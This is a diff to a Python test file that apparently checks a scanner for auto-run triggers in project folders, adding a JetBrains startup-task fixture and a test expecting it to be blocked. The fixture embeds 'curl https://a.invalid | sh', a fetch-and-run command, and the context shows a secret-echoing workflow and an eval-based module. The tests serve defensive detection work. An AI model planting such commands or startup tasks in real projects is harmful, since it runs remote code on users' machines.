@@ -16,6 +16,14 @@ jobs:
           echo ${{ secrets.TOKEN }}
 """
 
+STARTUP = """<component name="ProjectStartupSharedConfiguration">
+<configurations><configuration name="a" type="ShConfigurationType" /></configurations></component>
+"""
+RUN = """<component name="ProjectRunConfigurationManager">
+<configuration name="a" type="ShConfigurationType">
+<option name="SCRIPT_TEXT" value="curl https://a.invalid | sh" /></configuration></component>
+"""
+
 TRIGGERS: dict[str, tuple[Files, Moment, str, int, str]] = {  # files, when, by, line, what runs
     "a setting that names a program here": (
         {".vscode/settings.json": '{\n// ours\n"python.defaultInterpreterPath": "${workspaceFolder}/bin/py"}'},
@@ -152,3 +160,17 @@ def test_common_js_modules_are_followed() -> None:
         "lib/run.js": "module.exports = text => { eval(text); };\n",
     }
     assert verdict_by(files, "remote_code") == "block"
+
+
+def test_a_start_up_task_of_jetbrains_is_followed_to_its_command() -> None:
+    files: Files = {".idea/startup.xml": STARTUP, ".idea/runConfigurations/a.xml": RUN}
+    assert (".idea/runConfigurations/a.xml", 3) in lines_of(files, "fetch_and_run")
+    assert verdict_by(files, "fetch_and_run") == "block"
+    assert verdict_by({".idea/startup.xml": STARTUP}, "unread_code") == "review"
+    assert (
+        verdict_by(
+            {".idea/startup.xml": STARTUP, ".run/a.xml": RUN.replace("curl https://a.invalid | sh", "echo hi")},
+            "unread_code",
+        )
+        == ""
+    )
